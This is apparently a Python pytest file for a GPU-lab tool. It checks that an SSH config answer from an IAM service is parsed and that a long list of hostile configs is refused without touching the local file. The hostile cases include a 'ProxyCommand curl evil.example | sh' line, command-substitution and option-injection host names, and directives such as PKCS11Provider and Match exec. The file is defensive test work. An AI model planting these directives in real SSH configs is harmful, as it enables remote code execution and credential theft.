"""IAM's .ssh/config answer: the real form is read, and every kind of hostile one is refused whole."""

from ipaddress import ip_network
from pathlib import Path

import pytest

from apexgpu.errors import ConfigError
from apexgpu.iam import hostlist
from apexgpu.models import Host
from apexgpu.process import LocalRunner
from apexgpu.sshfiles import configfile


def manage(name: str = "gpu7", address: str = "10.77.0.1") -> str:
    return f"Host {name}-manage\n    HostName {address}\n    User alice\n"


def container(name: str = "gpu7", address: str = "10.77.0.1", port: str = "22001") -> str:
    return f"Host {name}\n    HostName {address}\n    User alice\n    Port {port}\n"


GOOD = manage() + manage("gpu8", "10.77.0.2") + container() + container("gpu8", "10.77.0.2")


def test_the_recorded_answer_gives_both_hosts_with_their_port() -> None:
    assert hostlist.parse(GOOD.encode(), user="alice") == (
        Host("gpu7", "10.77.0.1", "alice", 22001),
        Host("gpu8", "10.77.0.2", "alice", 22001),
    )


def test_before_the_registration_hosts_have_no_port() -> None:
    body = manage() + manage("gpu8", "10.77.0.2")
    assert hostlist.parse(body.encode(), user="alice") == (
        Host("gpu7", "10.77.0.1", "alice"),
        Host("gpu8", "10.77.0.2", "alice"),
    )


@pytest.mark.parametrize(
    ("name", "address"),
    [
        ("titan", "192.168.3.4"),
        ("node_3", "172.31.0.1"),
        ("A100-1", "127.0.0.1"),
        ("x", "::1"),
        ("v6", "fd00::7"),
    ],
)
def test_hosts_of_other_names_and_networks_are_hosts(name: str, address: str) -> None:
    body = manage(name, address) + container(name, address)
    assert hostlist.parse(body.encode(), user="alice") == (Host(name, address, "alice", 22001),)


def test_a_manage_block_may_have_a_port_and_options_may_stand_in_any_order() -> None:
    body = "Host h-manage\nPort 10022\nUser alice\nHostName 127.0.0.1\n\n"
    body += container("h", "127.0.0.1", port="65535")
    assert hostlist.parse(body.encode(), user="alice") == (
        Host("h", "127.0.0.1", "alice", 65535, 10022),
    )


def test_the_networks_are_the_callers() -> None:
    body = (manage(address="203.0.113.5") + container(address="203.0.113.5")).encode()
    networks = [ip_network("203.0.113.0/24")]
    assert hostlist.parse(body, user="alice", networks=networks)[0].address == "203.0.113.5"
    with pytest.raises(ConfigError, match=r"10\.77\.0\.1.* outside"):
        hostlist.parse(GOOD.encode(), user="alice", networks=networks)


def test_two_hundred_hosts_are_read() -> None:
    body = "".join(manage(f"gpu{n}") + container(f"gpu{n}") for n in range(200))
    assert len(hostlist.parse(body.encode(), user="alice")) == 200


def many(count: int) -> str:
    return "".join(manage(f"g{n}") for n in range(count))


HOSTILE: dict[str, tuple[str | bytes, str]] = {
    "empty": ("", "empty"),
    "only newlines": ("\n\n\n", "empty"),
    "only blanks": ("    \n", "empty"),
    "an HTML page": ("<!DOCTYPE html>\n<html><body>502 Bad Gateway</body></html>\n", "line 1"),
    "HTML behind a good answer": (GOOD + "<script>alert(1)</script>\n", "line 15"),
    "a login page of the network": ("<html>\nHost gpu7-manage\n", "line 1"),
    "JSON": ('{"hosts": []}\n', "line 1"),
    "cut inside a value": (GOOD[:-3], "truncated"),
    "cut behind the last value": (GOOD[:-1], "truncated"),
    "cut inside a keyword": (GOOD[:-9] + "\n", "is not Host, HostName, User or Port"),
    "cut before the last Port": (GOOD[: GOOD.rindex("    Port")], "has no Port"),
    "cut before the last User": (GOOD[: GOOD.rindex("    User")], "has no User"),
    "cut behind the last Host line": (GOOD[: GOOD.rindex("    HostName")], "has no HostName"),
    "cut between two containers": (manage() + manage("gpu8") + container(), "no 'gpu8' beside it"),
    "cut at the front": (GOOD[10:], "line 1"),
    "starts in the middle of a block": (GOOD[GOOD.index("    User") :], "before the first Host"),
    "too long": (GOOD + "\n" * 70_000, "more than 65536"),
    "too many hosts": (many(201), "201 hosts"),
    "NUL": (GOOD + "\0\n", "0x00"),
    "a NUL inside a name": (GOOD.replace("Host gpu7\n", "Host gpu7\0\n"), "0x00"),
    "an escape sequence": (GOOD.replace("gpu8", "gpu8\x1b[2J"), "0x1b"),
    "a bell": (GOOD + "\a\n", "0x07"),
    "DEL": (GOOD + "\x7f\n", "0x7f"),
    "CRLF": (GOOD.replace("\n", "\r\n"), "0x0d"),
    "a carriage return that hides a line": (GOOD + "ProxyCommand x\rHost a\n", "0x0d"),
    "tabs": (GOOD.replace("    ", "\t"), "0x09"),
    "a vertical tab for a blank": (GOOD.replace("Host gpu7\n", "Host\vgpu7\n"), "0x0b"),
    "a form feed": (GOOD + "\f\n", "0x0c"),
    "UTF-8": (GOOD.replace("gpu8", "gpü8"), "0xc3"),
    "latin-1": (GOOD.replace("gpu8", "gpü8").encode("latin-1"), "0xfc"),
    "a look-alike letter": (GOOD.replace("gpu8", "gрu8"), "0xd1"),
    "a non-breaking blank": (GOOD.replace("Host gpu7\n", "Host\u00a0gpu7\n"), "0xc2"),
    "a line separator": (GOOD + "\u2028", "0xe2"),
    "a byte order mark": ("\ufeff" + GOOD, "0xef"),
    "UTF-16": (GOOD.encode("utf-16"), "0xff"),
    "gzip": (b"\x1f\x8b\x08\x00" + b"\0" * 20, "0x1f"),
    "ProxyCommand": (GOOD + "    ProxyCommand curl evil.example | sh\n", "line 15.*ProxyCommand"),
    "LocalCommand": (GOOD + "    LocalCommand rm\n", "LocalCommand"),
    "PermitLocalCommand": (GOOD + "    PermitLocalCommand yes\n", "PermitLocalCommand"),
    "KnownHostsCommand": (GOOD + "    KnownHostsCommand /tmp/x\n", "KnownHostsCommand"),
    "ProxyJump": (GOOD + "    ProxyJump evil.example\n", "ProxyJump"),
    "Match exec": (GOOD + "Match exec reboot\n", "Match"),
    "Match all": ("Match all\n" + GOOD, "line 1"),
    "Include": ("Include /tmp/evil\n" + GOOD, "line 1.*Include"),
    "IdentityFile": (GOOD + "    IdentityFile /tmp/key\n", "IdentityFile"),
    "IdentityAgent": (GOOD + "    IdentityAgent /tmp/agent\n", "IdentityAgent"),
    "PKCS11Provider": (GOOD + "    PKCS11Provider /tmp/evil.so\n", "PKCS11Provider"),
    "ForwardAgent": (GOOD + "    ForwardAgent yes\n", "ForwardAgent"),
    "StrictHostKeyChecking": (GOOD + "    StrictHostKeyChecking no\n", "StrictHostKeyChecking"),
    "UserKnownHostsFile": (GOOD + "    UserKnownHostsFile /dev/null\n", "UserKnownHostsFile"),
    "SendEnv": (GOOD + "    SendEnv SECRET\n", "SendEnv"),
    "a global option": ("User alice\n" + GOOD, "before the first Host"),
    "a keyword in another case": (
        GOOD.replace("HostName", "hostname"),
        "is not Host, HostName, User or Port",
    ),
    "a keyword without a value": (GOOD + "    Port\n", "is not Host, HostName, User or Port"),
    "a comment": ("# hello\n" + GOOD, "is not Host, HostName, User or Port"),
    "a comment behind a value": (
        GOOD.replace("Port 22001\n", "Port 22001 #x\n"),
        "is not Host, HostName, User or Port",
    ),
    "our first mark": ("# >>> apexgpu >>>\n" + GOOD, "line 1"),
    "our last mark": (GOOD + "# <<< apexgpu <<<\nHost *\n    ProxyCommand x\n", "line 15"),
    "our last mark as a value": (GOOD.replace("Host gpu7\n", "Host #<<<\n"), "plain name"),
    "a line continued by a backslash": (GOOD.replace("Port 22001\n", "Port \\\n22001\n"), "Port"),
    "a wildcard for all": (GOOD + container("*"), "plain name"),
    "a wildcard within": (GOOD.replace("gpu8", "gpu*"), "plain name"),
    "a question mark": (GOOD.replace("gpu8", "gpu?"), "plain name"),
    "a negation": (GOOD.replace("gpu8", "!gpu8"), "plain name"),
    "two names on a line": (
        GOOD.replace("Host gpu7\n", "Host gpu7 github.com\n"),
        "is not Host, HostName, User or Port",
    ),
    "two names with a comma": (GOOD.replace("Host gpu7\n", "Host gpu7,github.com\n"), "plain name"),
    "a domain name": (GOOD + manage("github.com") + container("github.com"), "plain name"),
    "an option for a name": (GOOD.replace("gpu8", "-oProxyCommand=x"), "plain name"),
    "a name with a dash in front": (GOOD.replace("gpu8", "-l"), "plain name"),
    "double quotes": (GOOD.replace("Host gpu7\n", 'Host "gpu7"\n'), "plain name"),
    "single quotes": (GOOD.replace("Host gpu7\n", "Host 'gpu7'\n"), "plain name"),
    "an equals sign": (
        GOOD.replace("Host gpu7\n", "Host=gpu7\n"),
        "is not Host, HostName, User or Port",
    ),
    "an equals sign with blanks": (
        GOOD.replace("Host gpu7\n", "Host = gpu7\n"),
        "is not Host, HostName, User or Port",
    ),
    "a name with an equals sign": (GOOD.replace("gpu8", "gpu=8"), "plain name"),
    "a name that is a path": (GOOD.replace("gpu8", "../gpu8"), "plain name"),
    "a name that is a command": (GOOD.replace("gpu8", "$(reboot)"), "plain name"),
    "a name that is markup": (GOOD.replace("gpu8", "[bold]x[/bold]"), "plain name"),
    "a name that is too long": (GOOD.replace("gpu8", "g" * 100), "plain name"),
    "this machine": (GOOD.replace("gpu8", "localhost"), "this machine"),
    "a name that is two things": (GOOD + manage("gpu7-manage"), "ambiguous"),
    "a name that is only -manage": (GOOD + manage(""), "plain name"),
    "a host twice": (GOOD + container(), "twice"),
    "a host twice in another case": (GOOD + manage("GPU7") + container("GPU7"), "twice"),
    "HostName twice": (GOOD + "    HostName 10.0.0.9\n", "line 15.*HostName appears twice"),
    "Port twice": (GOOD + "    Port 22\n", "Port appears twice"),
    "User twice": (GOOD + "    User alice\n", "User appears twice"),
    "a container without its host": (GOOD + container("gpu9"), "no 'gpu9-manage' beside"),
    "a host without its container": (GOOD + manage("gpu9"), "no 'gpu9' beside"),
    "only containers": (container(), "no 'gpu7-manage' beside"),
    "different addresses in a pair": (
        manage() + container(address="10.77.0.2"),
        "different addresses",
    ),
    "a host of the internet": (
        manage(address="8.8.8.8") + container(address="8.8.8.8"),
        "outside the lab",
    ),
    "an IPv6 host of the internet": (manage(address="2001:db8::1"), "outside the lab"),
    "an IPv4 host in IPv6 clothes": (manage(address="::ffff:8.8.8.8"), "outside the lab"),
    "every address": (manage(address="0.0.0.0"), "outside the lab"),
    "link-local": (manage(address="169.254.169.254"), "outside the lab"),
    "a domain name as the address": (manage(address="evil.example"), "not an IP address"),
    "an address with a port": (manage(address="10.77.0.1:22"), "not an IP address"),
    "an address with a leading zero": (manage(address="010.77.0.1"), "not an IP address"),
    "an address as one number": (manage(address="168427777"), "not an IP address"),
    "an address as hexadecimal": (manage(address="0x0a4d0001"), "not an IP address"),
    "a network for an address": (manage(address="10.0.0.0/8"), "not an IP address"),
    "an address in brackets": (manage(address="[::1]"), "not an IP address"),
    "an address with a zone": (manage(address="fd00::1%eth0"), "zone"),
    "an address with a token": (manage(address="%h"), "not an IP address"),
    "an address with a user": (manage(address="bob@10.77.0.1"), "not an IP address"),
    "another user": (GOOD.replace("User alice", "User bob"), "user 'bob', not alice"),
    "another user in one block": (GOOD[::-1].replace("ecila", "toor", 1)[::-1], "user 'root'"),
    "the user in another case": (GOOD.replace("User alice", "User Alice"), "'Alice'"),
    "the register account": (GOOD.replace("User alice", "User register"), "'register'"),
    "a user that is a token": (GOOD.replace("User alice", "User %u"), "'%u'"),
    "a user in quotes": (GOOD.replace("User alice", 'User "alice"'), "alice"),
    "port 0": (GOOD.replace("22001", "0"), "1-65535"),
    "port 65536": (GOOD.replace("22001", "65536"), "1-65535"),
    "a huge port": (GOOD.replace("22001", "9" * 400), "1-65535"),
    "a negative port": (GOOD.replace("22001", "-1"), "1-65535"),
    "a port with a sign": (GOOD.replace("22001", "+22001"), "1-65535"),
    "a port with a leading zero": (GOOD.replace("22001", "022001"), "1-65535"),
    "a port as hexadecimal": (GOOD.replace("22001", "0x55f1"), "1-65535"),
    "a port with an underscore": (GOOD.replace("22001", "22_001"), "1-65535"),
    "a port by name": (GOOD.replace("22001", "ssh"), "1-65535"),
    "port 0 of a manage host": (manage() + "    Port 0\n", "1-65535"),
}


@pytest.mark.parametrize("why", HOSTILE)
def test_a_hostile_answer_is_refused_and_changes_nothing(why: str, tmp_path: Path) -> None:
    body, reason = HOSTILE[why]
    place = tmp_path / "place"
    place.mkdir()
    config, state = place / "config", place / "state"
    config.write_bytes(b"Host mine\n")
    before = config.stat()

    def sync(answer: bytes) -> None:
        hosts = hostlist.parse(answer, user="alice")
        plan = configfile.plan(config, hosts, runner=LocalRunner())
        configfile.commit(plan, state_dir=state, runner=LocalRunner())

    with pytest.raises(ConfigError, match=reason) as caught:
        sync(body.encode() if isinstance(body, str) else body)
    assert caught.value.hint is not None
    assert caught.value.message.isprintable()
    assert caught.value.message.isascii()
    assert len(caught.value.message) < 250
    assert config.read_bytes() == b"Host mine\n"
    assert config.stat().st_mtime_ns == before.st_mtime_ns
    assert [path.name for path in place.iterdir()] == ["config"]


def test_an_account_that_is_no_name_is_refused() -> None:
    with pytest.raises(ConfigError, match="not an account name"):
        hostlist.parse(GOOD.encode(), user="alice\nProxyCommand x")


def test_hostile_text_is_quoted_short_and_escaped() -> None:
    assert hostlist.quoted("gpu\x1b[1m") == r"'gpu\x1b[1m'"
    assert len(hostlist.quoted("\n" * 500)) <= 60
    assert hostlist.quoted("é") == r"'\xe9'"
